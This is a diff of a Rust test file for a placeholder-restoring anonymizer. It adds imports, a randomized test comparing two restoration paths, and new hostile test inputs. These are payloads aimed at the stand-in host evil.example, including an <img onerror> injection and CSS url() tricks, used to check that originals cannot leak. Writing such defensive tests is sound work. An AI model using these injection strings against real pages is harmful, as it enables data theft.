@@ -1,7 +1,13 @@
 use std::sync::Arc;
 
 use super::*;
-use crate::anonymize::{Original, restore::Forms};
+use crate::{
+    anonymize::{
+        Original,
+        restore::{Forms, MapEntry, Options, by_map},
+    },
+    text::Unit,
+};
 
 const HOSTS: [&str; 2] = ["good.example", "*.corp.example"];
 
@@ -90,6 +96,8 @@ fn waits_only_for_what_may_still_become_a_name() {
     for (text, waiting) in [
         ("Hello", 0),
         ("Hello [", 1),
+        ("a\\", 1),
+        ("a\\b", 0),
         ("[PERSON_", 8),
         ("[PERSON_2", 0),
         ("[PERSON_1]", 0),
@@ -164,6 +172,7 @@ fn nothing_is_put_where_others_could_fetch_it() {
         "<p style=\"background:url(/\\evil.example/E)\">",
         "<p style=\"background:\\75rl(/\\evil.example/E)\">",
         "url(/\\evil.example/E)",
+        "<img src=x onerror=\"f('/\\evil.example/','E')\">",
         "https://evil.example/a\u{3000}E",
         "https://evil.example/a,E",
         "https://evil.example/[a](b)E",
@@ -186,7 +195,9 @@ fn nothing_is_put_where_others_could_fetch_it() {
         }
     }
     // An original that is a URL does not become the beginning of another's host.
-    for text in ["[URL_1].evil.example/", "[URL_1]@evil.example", "[URL_1]:a@evil.example", "[URL_1]。evil", "[a]([URL_1]x)"] {
+    for text in
+        ["[URL_1].evil.example/", "[URL_1]@evil.example", "[URL_1]:a@evil.example", "[URL_1]。evil", "[a]([URL_1]x)"]
+    {
         assert!(!restored(&live, text).contains("intra"), "{text} -> {}", restored(&live, text));
     }
 }
@@ -226,9 +237,38 @@ fn restores_in_urls_that_may_have_it() {
 }
 
 #[test]
+fn agrees_with_restoring_by_map() {
+    let names =
+        [("[PERSON_1]", "Ada"), ("[PERSON_12]", "[PERSON_1]"), ("Eve", "Ann"), ("Eve Miller", "Bo"), ("日本", "x")];
+    let live = Live::new(
+        names.map(|(name, original)| (name.into(), Original::new(original))),
+        false,
+        &Forms::default(),
+        Arc::default(),
+    );
+    let map = names.map(|(replacement, original)| MapEntry { original, replacement, position: None });
+    let options =
+        Options { cipher: None, is_label: &|_| true, tolerant: false, taken: &Forms::default(), max_bytes: 1 << 20 };
+    let pieces =
+        ["[PERSON_1", "]", "[", "2]", "Eve", " Miller", " ", "s", "日", "本", "é", "\u{301}", "[PERSON_1]", "-"];
+    let mut seed = 5_u64;
+    for _ in 0..1000 {
+        let mut text = String::new();
+        for _ in 0..8 {
+            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+            text.push_str(pieces[(seed >> 33) as usize % pieces.len()]);
+        }
+        let expected = by_map(&[&text], &map, Unit::Byte, &options).unwrap();
+        assert_eq!(restored(&live, &text), expected.texts[0], "{text}");
+    }
+}
+
+#[test]
 fn takes_time_in_proportion_to_the_text() {
     let live = usual();
-    for piece in ["[", "[a", "[PERSON ", "[PERSON_1 ", "E", "Eve ", "`p", "&#91;", "](", "https://", "src=", "%5b", "www."] {
+    for piece in
+        ["[", "[a", "[PERSON ", "[PERSON_1 ", "E", "Eve ", "`p", "&#91;", "](", "https://", "src=", "%5b", "www."]
+    {
         let text = piece.repeat(100_000);
         assert!(Restorer::restore(&live, &text).is_none_or(|out| out.len() < 2_000_000));
     }
